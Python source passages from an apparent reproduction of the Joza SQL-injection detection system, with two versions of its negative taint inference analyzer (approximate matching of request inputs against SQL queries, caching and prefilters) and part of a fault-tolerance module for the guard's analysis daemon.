            if diff_ratio < threshold
                mark_negative_taint(q, p)

followed by the detection rule: the query is an attack iff some *single*
input's inferred marking fully covers at least one critical token.  Two
false-positive guards come straight from the paper:

- markings inferred from different inputs are never combined (otherwise
  one-letter inputs ``O`` and ``R`` would taint every ``OR``);
- a match only counts if it covers "at least one whole SQL token", so an
  input like ``1`` matching the data position of ``WHERE ID=1`` is benign.

Performance structure (the per-request hot path of the whole system):

- the matching core is selectable (:attr:`NTIConfig.matcher`): Myers'
  bit-parallel scan by default, the Sellers DP as oracle;
- the query's pruning tables (:class:`~repro.matching.substring.TextProfile`)
  are built once per query and shared across every candidate input (and
  cached across requests);
- a cross-request LRU (:class:`~repro.nti.cache.NTIMatchCache`) memoises
  the full ``(input value, query) -> match`` computation, the NTI analogue
  of the PTI query cache.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from ..core.resilience import Deadline
from ..core.verdict import AnalysisResult, Detection, TaintMarking, Technique
from ..matching.ratio import DEFAULT_NTI_THRESHOLD, RatioMatch, match_with_ratio
from ..matching.substring import MATCHER_CHOICES, TextProfile
from ..phpapp.context import RequestContext
from ..sqlparser.parser import critical_tokens
from ..sqlparser.tokens import Token
from .cache import NTIMatchCache, TextProfileCache
from .sources import candidate_inputs

__all__ = ["NTIConfig", "NTIAnalyzer"]


@dataclass(frozen=True)
class NTIConfig:
    """Tunables for the NTI component.

    Attributes:
        threshold: maximum difference ratio accepted as a match.  The paper
            discusses the sensitivity of this knob at length (Section
            III-A); 0.20 matches Figure 2C's arithmetic.
        min_input_length: inputs shorter than this are never matched.  The
            default of 1 relies purely on the whole-token rule, as the
            paper does.
        matcher: matching-core selector -- ``"auto"`` (bit-parallel except
            for tiny inputs), ``"dp"`` (Sellers oracle) or
            ``"bitparallel"``.  All produce identical matches; the knob
            exists for the matcher ablation and differential testing.
        match_cache_size: capacity of the cross-request ``(input, query)``
            match LRU; ``0`` disables it (the cache ablation setting).
        profile_cache_size: capacity of the query -> pruning-tables LRU;
            ``0`` disables cross-request reuse (tables are still shared
            across the inputs of one query).
    """

    threshold: float = DEFAULT_NTI_THRESHOLD
    min_input_length: int = 1
    matcher: str = "auto"
    match_cache_size: int = 4096
    profile_cache_size: int = 512

    def __post_init__(self) -> None:
        if self.matcher not in MATCHER_CHOICES:
            raise ValueError(
                f"unknown matcher {self.matcher!r}; "
                f"expected one of {MATCHER_CHOICES}"
            )


class NTIAnalyzer:
    """Correlate raw inputs with an intercepted query.

    Verdict-wise stateless (every ``analyze`` call is a pure function of
    query and context); operationally it owns the two NTI caches, which are
    sound because a match result depends only on the ``(input, query)``
    pair and the analyzer's fixed threshold/matcher configuration.
    """

    def __init__(self, config: NTIConfig | None = None) -> None:
        self.config = config or NTIConfig()
        self.match_cache: NTIMatchCache | None = (
            NTIMatchCache(self.config.match_cache_size)
            if self.config.match_cache_size > 0
            else None
        )
        self.profile_cache: TextProfileCache | None = (
            TextProfileCache(self.config.profile_cache_size)
            if self.config.profile_cache_size > 0
            else None
        )

    def cache_stats(self) -> dict[str, dict[str, float]]:
        """Hit/miss counters of both NTI caches (bench reporting hook)."""
        out: dict[str, dict[str, float]] = {}
        for name, cache in (
            ("match", self.match_cache),
            ("profile", self.profile_cache),
        ):
            if cache is not None:
                out[name] = {
                    "hits": cache.stats.hits,
                    "misses": cache.stats.misses,
                    "hit_rate": cache.stats.hit_rate,
                    "entries": len(cache),
                }
        return out

    def _profile_for(self, query: str, holder: list) -> TextProfile:
        """Lazily build/fetch the query's pruning tables (once per query).

        ``holder[0]`` may start out as ``None`` (build or fetch from the
        cross-request cache), a ready :class:`TextProfile`, or a
        zero-argument factory (the shape fast path's incremental assembly);
        whatever it was, the resolved profile is memoised back into the
        holder so later inputs of the same query reuse it.
        """
        value = holder[0]
        if value is None:
            if self.profile_cache is not None:
                value = self.profile_cache.get_or_build(query)
            else:
                value = TextProfile(query)
            holder[0] = value
        elif callable(value):
            value = value()
            holder[0] = value
        return value

    def _match(self, value: str, query: str, holder: list) -> RatioMatch | None:
        """One memoised substring-match computation."""
        cache = self.match_cache
        if cache is not None:
            hit, cached = cache.get(value, query)
            if hit:
                return cached
        result = match_with_ratio(
            value,
            query,
            self.config.threshold,
            matcher=self.config.matcher,
            # Lazy: the pruning tables are only built/fetched if the match
            # gets past the exact-containment short circuit.
            profile=lambda: self._profile_for(query, holder),
        )
        if cache is not None:
            cache.put(value, query, result)
        return result

    def analyze(
        self,
        query: str,
        context: RequestContext,
        tokens: list[Token] | None = None,
        deadline: Deadline | None = None,
        values: list[str] | None = None,
        profile: "TextProfile | Callable[[], TextProfile] | None" = None,
    ) -> AnalysisResult:
        """Run NTI over one query.

        Args:
            query: the intercepted SQL string.
            context: raw-input snapshot captured at request entry.
            tokens: optional pre-computed critical tokens.  The Joza
                pipeline reuses "the critical tokens and keywords previously
                obtained by the PTI Daemon" (Section IV-D); standalone use
                recomputes them.
            deadline: optional per-query analysis budget.  The input x
                query comparison loop is the engine's in-process hot path
                (one matcher run per candidate input); the budget is
                checked before each comparison, so a request carrying many
                large inputs raises
                :class:`~repro.core.resilience.DeadlineExceeded` instead of
                stalling the guard -- the engine then resolves the query
                per its failure policy.
            values: optional pre-computed candidate input list.  The shape
                fast path passes the :func:`~repro.nti.sources.candidate_inputs`
                output after pruning inputs that provably cannot cover any
                critical token of the cached shape; ``None`` (the default)
                enumerates the context as usual.
            profile: optional pre-built pruning tables for ``query``, or a
                zero-argument factory for them.  Must be *exact* (equal to
                ``TextProfile(query)``); the shape fast path passes a lazy
                factory assembling one from its per-shape segment template
                instead of rescanning the query -- invoked only if some
                input actually reaches the bound heuristics.
        """
        crit = tokens if tokens is not None else critical_tokens(query)
        markings: list[TaintMarking] = []
        detections: list[Detection] = []
        # Pruning tables depend only on the query: built (or fetched from
        # the cross-request cache) at most once per analyze call, lazily on
        # the first match-cache miss, then shared across all inputs.
        profile_holder: list = [profile]
        if values is None:
            values = candidate_inputs(context, query, self.config.threshold)
        for value in values:
            if deadline is not None:
                deadline.check("nti")
            if len(value) < self.config.min_input_length:
                continue
            matched = self._match(value, query, profile_holder)
            if matched is None:
                continue
            # Hoist the span once (RatioMatch.start/end are forwarding
            # properties) and inline TaintMarking.covers for the per-token
            # loop -- this runs for every matching input of every request.
            span = matched.match
            m_start, m_end = span.start, span.end
            marking = TaintMarking(
                start=m_start,
                end=m_end,
                technique=Technique.NTI,
                origin=value,
                ratio=matched.ratio,
            )
            markings.append(marking)
            for token in crit:
                if m_start <= token.start and token.end <= m_end:
                    detections.append(
                        Detection(
                            technique=Technique.NTI,
                            reason=(
                                "critical token covered by negative taint "
                                f"(ratio {matched.ratio:.3f})"
                            ),
                            token_text=token.text,
                            token_start=token.start,
                            token_end=token.end,
                            input_value=value,
                        )
                    )
        return AnalysisResult(
            technique=Technique.NTI,
            safe=not detections,
            markings=markings,
            detections=detections,
        )
