"""Negative taint inference (NTI).

Implements the algorithm of paper Section III-A:

.. code-block:: text

    query q = intercept_query()
    for each input source, S
        for each input p, in S
            diff_ratio = substring_distance(q, p)
            if diff_ratio < threshold
                mark_negative_taint(q, p)

followed by the detection rule: the query is an attack iff some *single*
input's inferred marking fully covers at least one critical token.  Two
false-positive guards come straight from the paper:

- markings inferred from different inputs are never combined (otherwise
  one-letter inputs ``O`` and ``R`` would taint every ``OR``);
- a match only counts if it covers "at least one whole SQL token", so an
  input like ``1`` matching the data position of ``WHERE ID=1`` is benign.

Performance structure (the per-request hot path of the whole system):

- the matching core is selectable (:attr:`NTIConfig.matcher`): Myers'
  bit-parallel scan by default, the Sellers DP as oracle;
- the query's pruning tables (:class:`~repro.matching.substring.TextProfile`)
  are built once per query and shared across every candidate input (and
  cached across requests);
- a cross-request LRU (:class:`~repro.nti.cache.NTIMatchCache`) memoises
  the full ``(input value, query) -> match`` computation, the NTI analogue
  of the PTI query cache.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from ..core.resilience import Deadline
from ..core.verdict import AnalysisResult, Detection, TaintMarking, Technique
from ..matching.ratio import (
    DEFAULT_NTI_THRESHOLD,
    RatioMatch,
    difference_ratio,
    match_with_ratio,
)
from ..matching.substring import MATCHER_CHOICES, SubstringMatch, TextProfile
from ..phpapp.context import RequestContext
from ..sqlparser.parser import critical_tokens
from ..sqlparser.tokens import Token
from .cache import NTIMatchCache, TextProfileCache
from .prefilter import (
    FULL_SCAN,
    MIN_PIECE,
    PACKED_MAX_PATTERN,
    PREFILTER_CHOICES,
    FilterStats,
    edit_budget,
    packed_survivors,
    qgram_applicable,
    qgram_filtered_match,
)
from .sources import candidate_inputs

__all__ = ["NTIConfig", "NTIAnalyzer"]

# Amortisation guard for the batched front-end: the packed pass pays one
# whole-query scan, which a handful of lanes cannot amortise, so below
# this floor deferred candidates degrade to the plain per-value pipeline
# (results are identical either way -- only work is routed).
MIN_PACKED_LANES = 3


@dataclass(frozen=True)
class NTIConfig:
    """Tunables for the NTI component.

    Attributes:
        threshold: maximum difference ratio accepted as a match.  The paper
            discusses the sensitivity of this knob at length (Section
            III-A); 0.20 matches Figure 2C's arithmetic.
        min_input_length: inputs shorter than this are never matched.  The
            default of 1 relies purely on the whole-token rule, as the
            paper does.
        matcher: matching-core selector -- ``"auto"`` (bit-parallel except
            for tiny inputs), ``"dp"`` (Sellers oracle) or
            ``"bitparallel"``.  All produce identical matches; the knob
            exists for the matcher ablation and differential testing.
        prefilter: candidate-filter selector -- ``"auto"`` (default:
            q-gram pigeonhole prefilter plus packed multi-lane
            verification for small candidates), ``"qgram"`` (pigeonhole
            only) or ``"off"`` (no filtering).  Filters prune work, never
            change results; with ``matcher="dp"`` no filtering is ever
            applied regardless, keeping the DP pipeline the verbatim
            differential oracle.
        match_cache_size: capacity of the cross-request ``(input, query)``
            match LRU; ``0`` disables it (the cache ablation setting).
        profile_cache_size: capacity of the query -> pruning-tables LRU;
            ``0`` disables cross-request reuse (tables are still shared
            across the inputs of one query).
    """

    threshold: float = DEFAULT_NTI_THRESHOLD
    min_input_length: int = 1
    matcher: str = "auto"
    prefilter: str = "auto"
    match_cache_size: int = 4096
    profile_cache_size: int = 512

    def __post_init__(self) -> None:
        if self.matcher not in MATCHER_CHOICES:
            raise ValueError(
                f"unknown matcher {self.matcher!r}; "
                f"expected one of {MATCHER_CHOICES}"
            )
        if self.prefilter not in PREFILTER_CHOICES:
            raise ValueError(
                f"unknown prefilter {self.prefilter!r}; "
                f"expected one of {PREFILTER_CHOICES}"
            )


class NTIAnalyzer:
    """Correlate raw inputs with an intercepted query.

    Verdict-wise stateless (every ``analyze`` call is a pure function of
    query and context); operationally it owns the two NTI caches, which are
    sound because a match result depends only on the ``(input, query)``
    pair and the analyzer's fixed threshold/matcher configuration.
    """

    def __init__(self, config: NTIConfig | None = None) -> None:
        self.config = config or NTIConfig()
        self.match_cache: NTIMatchCache | None = (
            NTIMatchCache(self.config.match_cache_size)
            if self.config.match_cache_size > 0
            else None
        )
        self.profile_cache: TextProfileCache | None = (
            TextProfileCache(self.config.profile_cache_size)
            if self.config.profile_cache_size > 0
            else None
        )
        self._stats = FilterStats()
        # Filtering applies only off the DP-oracle pipeline and only under
        # a valid threshold (an invalid one must keep raising through
        # match_with_ratio exactly like the unfiltered path).
        self._filter_active = (
            self.config.prefilter != "off"
            and self.config.matcher != "dp"
            and 0.0 <= self.config.threshold < 1.0
        )
        self._pack_active = (
            self._filter_active and self.config.prefilter == "auto"
        )

    def cache_stats(self) -> dict[str, dict[str, float]]:
        """Hit/miss counters of both NTI caches (bench reporting hook)."""
        out: dict[str, dict[str, float]] = {}
        for name, cache in (
            ("match", self.match_cache),
            ("profile", self.profile_cache),
        ):
            if cache is not None:
                out[name] = {
                    "hits": cache.stats.hits,
                    "misses": cache.stats.misses,
                    "hit_rate": cache.stats.hit_rate,
                    "entries": len(cache),
                }
        out["filter"] = self._stats.as_dict()
        return out

    def filter_stats(self) -> dict[str, float]:
        """Prefilter effectiveness counters (see :class:`FilterStats`)."""
        return self._stats.as_dict()

    def _profile_for(self, query: str, holder: list) -> TextProfile:
        """Lazily build/fetch the query's pruning tables (once per query).

        ``holder[0]`` may start out as ``None`` (build or fetch from the
        cross-request cache), a ready :class:`TextProfile`, or a
        zero-argument factory (the shape fast path's incremental assembly);
        whatever it was, the resolved profile is memoised back into the
        holder so later inputs of the same query reuse it.
        """
        value = holder[0]
        if value is None:
            if self.profile_cache is not None:
                value = self.profile_cache.get_or_build(query)
            else:
                value = TextProfile(query)
            holder[0] = value
        elif callable(value):
            value = value()
            holder[0] = value
        return value

    def _match(
        self,
        value: str,
        query: str,
        holder: list,
        filtered: bool | None = None,
        bounds: bool = True,
    ) -> RatioMatch | None:
        """One memoised substring-match computation.

        ``filtered`` overrides the analyzer-level prefilter activation:
        the batched path passes ``False`` for candidates whose pigeonhole
        probe already declined, so the pipeline does not probe them a
        second time.  ``bounds=False`` additionally skips the char/bigram
        bound heuristics -- and with them the ``O(query)`` profile-table
        build -- for candidates the batch front end already knows the
        bounds cannot prune.  Results are identical either way.
        """
        cache = self.match_cache
        if cache is not None:
            hit, cached = cache.get(value, query)
            if hit:
                return cached
        result = match_with_ratio(
            value,
            query,
            self.config.threshold,
            matcher=self.config.matcher,
            # Lazy: the pruning tables are only built/fetched if the match
            # gets past the exact-containment short circuit.
            profile=lambda: self._profile_for(query, holder),
            prefilter=self._filter_active if filtered is None else filtered,
            bounds=bounds,
            stats=self._stats,
        )
        if cache is not None:
            cache.put(value, query, result)
        return result

    def _match_packed(
        self,
        query: str,
        values,
        holder: list,
        deadline: Deadline | None,
    ) -> list[RatioMatch | None]:
        """Resolve every candidate inline, batching small misses through one scan.

        The batched front-end replicates the match pipeline's decision
        tree without its per-value call stack: exact containment, the
        zero-budget prune, and the pigeonhole probe (prune / exact
        anchored match) all resolve in this loop.  Candidates split by
        size: the packed regime (at most :data:`PACKED_MAX_PATTERN`
        chars) skips the probe and is *deferred* -- the Myers lanes of
        all deferred candidates are verified together by a single
        :func:`~repro.matching.filter.packed_survivors` pass over the
        query, and only surviving lanes pay for an exact match -- while
        larger candidates are probed, and on a probe decline fall through
        to the ordinary pipeline with the probe disabled (it already
        declined once).  Returns one entry per value, order preserved,
        each entry exactly what :meth:`_match` would have produced.
        """
        threshold = self.config.threshold
        min_len = self.config.min_input_length
        cache = self.match_cache
        stats = self._stats
        # Probe tier: pieces probe the query text directly via str.find
        # unless this query's profile is already materialised (carried in
        # by the caller, or cached from an earlier request), in which case
        # its adaptive seed index can serve.  Never build tables just to
        # probe -- a request whose candidates all prune stays O(probes).
        seed_prof = holder[0]
        if seed_prof is None and self.profile_cache is not None:
            seed_prof = self.profile_cache.peek(query)
        elif callable(seed_prof):
            seed_prof = None
        results: list[RatioMatch | None] = []
        pending: list[int] = []
        pending_budgets: list[int] = []
        for value in values:
            if deadline is not None:
                deadline.check("nti")
            n = len(value)
            if n < min_len:
                results.append(None)
                continue
            if cache is not None:
                hit, cached = cache.get(value, query)
                if hit:
                    results.append(cached)
                    continue
            if not value:
                results.append(self._match(value, query, holder))
                continue
            idx = query.find(value)
            if idx >= 0:
                # Byte-identical to the pipeline's exact containment
                # short circuit (distance 0, ratio 0.0).
                stats.exact_hits += 1
                matched = RatioMatch(
                    match=SubstringMatch(0, idx, idx + n), ratio=0.0
                )
                if cache is not None:
                    cache.put(value, query, matched)
                results.append(matched)
                continue
            budget = edit_budget(n, threshold)
            if budget == 0:
                # The containment probe missed and the budget admits no
                # edits: provably no match, nothing left to compute.
                stats.pruned_zero_budget += 1
                if cache is not None:
                    cache.put(value, query, None)
                results.append(None)
                continue
            if budget < n and qgram_applicable(n, budget, MIN_PIECE):
                grams = (
                    seed_prof.seed_index() if seed_prof is not None else None
                )
                outcome = qgram_filtered_match(
                    value,
                    query,
                    budget,
                    grams,
                    stats,
                    seed_prof.bigram_index if grams is not None else None,
                )
                if outcome is None:
                    if cache is not None:
                        cache.put(value, query, None)
                    results.append(None)
                    continue
                if outcome is not FULL_SCAN:
                    # Mirror match_with_ratio's acceptance rule on the
                    # exact anchored match.
                    matched = SubstringMatch(*outcome)
                    ratio = difference_ratio(matched)
                    resolved = (
                        RatioMatch(match=matched, ratio=ratio)
                        if ratio <= threshold
                        else None
                    )
                    if cache is not None:
                        cache.put(value, query, resolved)
                    results.append(resolved)
                    continue
                if n <= PACKED_MAX_PATTERN:
                    # Seed-rich small candidate: defer to the shared packed
                    # verification pass instead of a per-value scan.
                    pending.append(len(results))
                    pending_budgets.append(budget)
                    results.append(None)  # placeholder, fixed up below
                    continue
                # Probe declined on a larger candidate: run the ordinary
                # pipeline (char/bigram bounds still prune many of these
                # cheaply) without probing a second time.
                stats.fallthrough_full_scan += 1
                results.append(self._match(value, query, holder, filtered=False))
                continue
            if budget < n and n <= PACKED_MAX_PATTERN:
                # Pieces would be too narrow to probe: small candidates
                # ride the packed lanes.
                pending.append(len(results))
                pending_budgets.append(budget)
                results.append(None)  # placeholder, fixed up below
                continue
            results.append(self._match(value, query, holder))
        if pending and len(pending) < MIN_PACKED_LANES:
            # Too few lanes to amortise a whole-query packed scan: resolve
            # them through the plain pipeline instead (short patterns, so
            # a direct scan beats materialising bound tables).
            for i in pending:
                results[i] = self._match(
                    values[i], query, holder, filtered=False, bounds=False
                )
            pending = []
        if pending:
            if deadline is not None:
                deadline.check("nti")
            survivors = packed_survivors(
                [values[i] for i in pending], pending_budgets, query, stats
            )
            for i, alive in zip(pending, survivors):
                value = values[i]
                if alive:
                    # The lane's scan proved a within-budget match exists,
                    # so the bounds cannot prune: go straight to the core.
                    stats.packed_verified += 1
                    results[i] = self._match(
                        value, query, holder, filtered=False, bounds=False
                    )
                elif cache is not None:
                    # A pruned lane is a proof of no match within budget:
                    # memoise the negative result like the exact path does.
                    cache.put(value, query, None)
        return results

    def analyze(
        self,
        query: str,
        context: RequestContext,
        tokens: list[Token] | None = None,
        deadline: Deadline | None = None,
        values: list[str] | None = None,
        profile: "TextProfile | Callable[[], TextProfile] | None" = None,
    ) -> AnalysisResult:
        """Run NTI over one query.

        Args:
            query: the intercepted SQL string.
            context: raw-input snapshot captured at request entry.
            tokens: optional pre-computed critical tokens.  The Joza
                pipeline reuses "the critical tokens and keywords previously
                obtained by the PTI Daemon" (Section IV-D); standalone use
                recomputes them.
            deadline: optional per-query analysis budget.  The input x
                query comparison loop is the engine's in-process hot path
                (one matcher run per candidate input); the budget is
                checked before each comparison, so a request carrying many
                large inputs raises
                :class:`~repro.core.resilience.DeadlineExceeded` instead of
                stalling the guard -- the engine then resolves the query
                per its failure policy.
            values: optional pre-computed candidate input list.  The shape
                fast path passes the :func:`~repro.nti.sources.candidate_inputs`
                output after pruning inputs that provably cannot cover any
                critical token of the cached shape; ``None`` (the default)
                enumerates the context as usual.
            profile: optional pre-built pruning tables for ``query``, or a
                zero-argument factory for them.  Must be *exact* (equal to
                ``TextProfile(query)``); the shape fast path passes a lazy
                factory assembling one from its per-shape segment template
                instead of rescanning the query -- invoked only if some
                input actually reaches the bound heuristics.
        """
        crit = tokens if tokens is not None else critical_tokens(query)
        markings: list[TaintMarking] = []
        detections: list[Detection] = []
        # Pruning tables depend only on the query: built (or fetched from
        # the cross-request cache) at most once per analyze call, lazily on
        # the first match-cache miss, then shared across all inputs.
        profile_holder: list = [profile]
        if values is None:
            values = candidate_inputs(context, query, self.config.threshold)
        # Packed mode resolves all candidates up front (small cache-misses
        # share one multi-lane scan); otherwise each value is matched
        # inline.  Either way the per-value order, deadline checks and
        # cache traffic are identical.
        matches = (
            self._match_packed(query, values, profile_holder, deadline)
            if self._pack_active
            else None
        )
        min_len = self.config.min_input_length
        for index, value in enumerate(values):
            if matches is not None:
                matched = matches[index]
                if matched is None:
                    continue
            else:
                if deadline is not None:
                    deadline.check("nti")
                if len(value) < min_len:
                    continue
                matched = self._match(value, query, profile_holder)
            if matched is None:
                continue
            # Hoist the span once (RatioMatch.start/end are forwarding
            # properties) and inline TaintMarking.covers for the per-token
            # loop -- this runs for every matching input of every request.
            span = matched.match
            m_start, m_end = span.start, span.end
            marking = TaintMarking(
                start=m_start,
                end=m_end,
                technique=Technique.NTI,
                origin=value,
                ratio=matched.ratio,
            )
            markings.append(marking)
            for token in crit:
                if m_start <= token.start and token.end <= m_end:
                    detections.append(
                        Detection(
                            technique=Technique.NTI,
                            reason=(
                                "critical token covered by negative taint "
                                f"(ratio {matched.ratio:.3f})"
                            ),
                            token_text=token.text,
                            token_start=token.start,
                            token_end=token.end,
                            input_value=value,
                        )
                    )
        return AnalysisResult(
            technique=Technique.NTI,
            safe=not detections,
            markings=markings,
            detections=detections,
        )
