"""Fault-tolerance primitives for the guard runtime.

The paper's deployment story ("the daemon approach requires no
administrative privileges", Section IV-C) makes the PTI analysis a separate
process reached over a pipe -- which means the *availability* of the
analysis is a distributed-systems problem: children crash, hang, reply
slowly, reply garbage, or crash deterministically on one particular query.
The guard's contract is stronger than the happy path: it **never fails
open** -- a query reaches the database only after a live analysis vouched
for it -- and its failure behavior must be *bounded* (a hung child must
not stall a request forever) and *observable* (operators must see the
runtime absorbing faults).

This module provides the policy-free mechanisms; the wiring lives in
:class:`~repro.core.engine.JozaEngine` and
:class:`~repro.pti.daemon.SubprocessPTIDaemon`:

- :class:`Deadline` -- a per-query analysis budget threaded through every
  analysis path (daemon IPC, the NTI input x token comparison loop).
- :class:`RetryPolicy` -- exponential backoff with full deterministic
  jitter for daemon respawn/IPC retries.
- :class:`CircuitBreaker` -- the classic closed -> open -> half-open state
  machine guarding daemon spawn/IPC, so a crash-looping child trips the
  breaker instead of spawn-storming the host.
- :class:`FailurePolicy` -- what the engine does when an analysis path is
  unavailable: fail closed (default), fall back to an in-process daemon,
  or degrade to the *other* inference technique (meaningful because the
  hybrid's blind spots are complementary, paper Table IV).
- :class:`RingLog` -- a capacity-bounded audit ring buffer (the attack log
  must not grow without bound under a sustained attack flood).
- The :class:`PTIFailure` exception family -- the *only* exceptions the
  resilient daemon wrapper lets escape into the request path, each
  carrying a reason string that ends up in the audit export.
"""

from __future__ import annotations

import collections
import enum
import random
import threading
import time
import typing
from dataclasses import dataclass

__all__ = [
    "Deadline",
    "DeadlineExceeded",
    "PTIFailure",
    "DaemonTimeout",
    "DaemonCrash",
    "CorruptReply",
    "DaemonUnavailable",
    "PoolSaturated",
    "OverloadPolicy",
    "FailurePolicy",
    "RetryPolicy",
    "BreakerState",
    "BreakerOpenError",
    "CircuitBreaker",
    "ResilienceConfig",
    "RingLog",
]


# ----------------------------------------------------------------------
# Deadlines
# ----------------------------------------------------------------------


class DeadlineExceeded(Exception):
    """An analysis stage ran past the per-query budget.

    Never escapes :meth:`JozaEngine.inspect`: the engine converts it into a
    fail-closed or degraded verdict per :class:`FailurePolicy`.
    """

    def __init__(self, stage: str, budget: float) -> None:
        super().__init__(f"analysis deadline exceeded in {stage} (budget {budget:.3f}s)")
        self.stage = stage
        self.budget = budget


class Deadline:
    """A monotonic per-query analysis budget.

    A ``Deadline`` is created once per intercepted query and handed down
    through every analysis stage.  Stages that loop (the NTI input x token
    comparison loop, the daemon retry loop) call :meth:`check` per
    iteration; stages that block (pipe receive) bound their wait with
    :meth:`remaining`.

    ``seconds=None`` means unbounded -- every ``check`` passes and
    ``remaining`` returns ``None`` -- so un-configured deployments keep the
    seed behavior exactly.

    The clock is injectable so the fault-injection harness can simulate
    hangs without sleeping.
    """

    __slots__ = ("seconds", "_clock", "_t0")

    def __init__(
        self,
        seconds: float | None,
        clock: typing.Callable[[], float] = time.monotonic,
    ) -> None:
        self.seconds = seconds
        self._clock = clock
        self._t0 = clock()

    @classmethod
    def unbounded(cls) -> "Deadline":
        return cls(None)

    def elapsed(self) -> float:
        return self._clock() - self._t0

    def remaining(self) -> float | None:
        """Seconds left, floored at 0.0; ``None`` when unbounded."""
        if self.seconds is None:
            return None
        return max(self.seconds - self.elapsed(), 0.0)

    def expired(self) -> bool:
        remaining = self.remaining()
        return remaining is not None and remaining <= 0.0

    def check(self, stage: str) -> None:
        """Raise :class:`DeadlineExceeded` if the budget is spent."""
        if self.expired():
            raise DeadlineExceeded(stage, self.seconds or 0.0)

    def bound(self, timeout: float | None) -> float | None:
        """Clamp a stage timeout to the remaining budget.

        ``min`` of the two bounds, treating ``None`` as infinite on both
        sides; used to derive the pipe ``poll`` timeout from the configured
        receive timeout and the query's remaining budget.
        """
        remaining = self.remaining()
        if remaining is None:
            return timeout
        if timeout is None:
            return remaining
        return min(timeout, remaining)


# ----------------------------------------------------------------------
# Failure taxonomy
# ----------------------------------------------------------------------


class PTIFailure(Exception):
    """Base of the typed failures a resilient daemon wrapper may raise.

    The request path (``JozaEngine.inspect``) catches this family and
    resolves it to a verdict per :class:`FailurePolicy`; it never reaches
    application code.
    """

    def __init__(self, reason: str) -> None:
        super().__init__(reason)
        self.reason = reason


class DaemonTimeout(PTIFailure):
    """The child did not reply within the receive timeout (hang / overload)."""


class DaemonCrash(PTIFailure):
    """The pipe broke mid-flight: the child died under the query."""


class CorruptReply(PTIFailure):
    """The child replied with a malformed message (memory corruption, bug)."""


class DaemonUnavailable(PTIFailure):
    """All recovery attempts were exhausted (or the breaker is open)."""

    def __init__(self, reason: str, *, breaker_open: bool = False) -> None:
        super().__init__(reason)
        self.breaker_open = breaker_open


class PoolSaturated(PTIFailure):
    """The daemon pool shed this request (admission queue full / no worker).

    ``shed`` is always ``True`` (the engine keys its load-shedding counters
    on it); ``fail_closed`` carries the pool's :class:`OverloadPolicy`
    decision: ``True`` forces a failsafe block regardless of the engine's
    :class:`FailurePolicy`, ``False`` lets the verdict degrade to the other
    inference technique (the operator opted into availability-over-depth
    at the pool level).
    """

    def __init__(self, reason: str, *, fail_closed: bool = True) -> None:
        super().__init__(reason)
        self.shed = True
        self.fail_closed = fail_closed


class OverloadPolicy(enum.Enum):
    """What a saturated :class:`~repro.pti.pool.DaemonPool` does with excess.

    ``SHED_FAIL_CLOSED`` (default): a request that cannot be admitted (the
    bounded queue is full, or no worker frees up within the deadline-bounded
    admission wait) is *shed*: the engine records a failsafe block with a
    ``shed`` reason.  Overload degrades availability, never the security
    invariant -- exactly the posture of :attr:`FailurePolicy.FAIL_CLOSED`
    extended from "one faulty daemon" to "a saturated service".

    ``DEGRADE_TO_OTHER_TECHNIQUE``: shed requests skip PTI and are vetted by
    NTI alone (flagged ``degraded``, counted in ``degraded_verdicts``).
    Meaningful because the hybrid's blind spots are complementary (paper
    Table IV), but it *is* a security downgrade under overload -- an
    attacker able to saturate the pool buys themselves NTI-only vetting.
    """

    SHED_FAIL_CLOSED = "shed_fail_closed"
    DEGRADE_TO_OTHER_TECHNIQUE = "degrade_to_other_technique"


class FailurePolicy(enum.Enum):
    """What the engine does when an analysis technique is unavailable.

    ``FAIL_CLOSED`` (default): the query is blocked with a recorded
    failsafe reason.  Availability is sacrificed for the paper's invariant
    -- no query executes without a verdict from a live analysis.

    ``FALLBACK_IN_PROCESS``: when the subprocess PTI daemon is unavailable
    the engine runs the same analysis in-process (losing the child's warmed
    caches and the fault isolation, not the verdict quality).  Verdicts are
    flagged ``degraded`` in the audit export.

    ``DEGRADE_TO_OTHER_TECHNIQUE``: the verdict of the surviving technique
    alone is used.  Meaningful because the hybrid's blind spots are
    complementary (paper Table IV: PTI alone misses what NTI catches and
    vice versa), so single-technique mode still blocks most attack classes
    -- but it *is* a security downgrade, and every such verdict is flagged
    ``degraded``.  If **both** techniques are unavailable the engine always
    fails closed, whatever the policy.
    """

    FAIL_CLOSED = "fail_closed"
    FALLBACK_IN_PROCESS = "fallback_in_process"
    DEGRADE_TO_OTHER_TECHNIQUE = "degrade_to_other_technique"


# ----------------------------------------------------------------------
# Retry with exponential backoff + jitter
# ----------------------------------------------------------------------


@dataclass(frozen=True)
class RetryPolicy:
    """Exponential backoff with deterministic full-range jitter.

    The un-jittered delay for attempt ``i`` (0-based) is
    ``base_delay * multiplier ** i`` capped at ``max_delay``; the actual
    delay is drawn uniformly from ``[delay * (1 - jitter), delay]`` so a
    fleet of workers whose daemons died together do not respawn in
    lock-step (the classic thundering-herd jitter argument).  Draws come
    from a caller-supplied :class:`random.Random`, so fault-injection runs
    are reproducible from a seed.
    """

    max_attempts: int = 3
    base_delay: float = 0.02
    multiplier: float = 2.0
    max_delay: float = 1.0
    jitter: float = 0.5

    def __post_init__(self) -> None:
        if self.max_attempts < 1:
            raise ValueError("max_attempts must be >= 1")
        if not 0.0 <= self.jitter <= 1.0:
            raise ValueError("jitter must be in [0, 1]")

    def raw_delay(self, attempt: int) -> float:
        """The un-jittered (upper-bound) delay before retry ``attempt``."""
        return min(self.base_delay * self.multiplier ** attempt, self.max_delay)

    def delay(self, attempt: int, rng: random.Random) -> float:
        """The jittered delay before retry ``attempt`` (0-based)."""
        upper = self.raw_delay(attempt)
        lower = upper * (1.0 - self.jitter)
        return rng.uniform(lower, upper)


# ----------------------------------------------------------------------
# Circuit breaker
# ----------------------------------------------------------------------


class BreakerState(enum.Enum):
    CLOSED = "closed"
    OPEN = "open"
    HALF_OPEN = "half_open"


class BreakerOpenError(Exception):
    """Internal: an operation was refused because the breaker is open."""


class CircuitBreaker:
    """Closed -> open -> half-open -> closed state machine.

    - **closed**: operations flow; ``failure_threshold`` *consecutive*
      failures trip the breaker open.
    - **open**: operations are refused outright (no spawn storm) until
      ``reset_timeout`` seconds have passed, after which the next
      :meth:`allow` transitions to half-open.
    - **half-open**: up to ``half_open_probes`` trial operations are let
      through; a success re-closes the breaker (and resets the failure
      count), a failure re-opens it and restarts the timeout.

    The clock is injectable for deterministic tests.  The breaker is a pure
    state machine -- it never sleeps and never spawns anything itself.

    Thread safety: every transition runs under an internal lock, so the
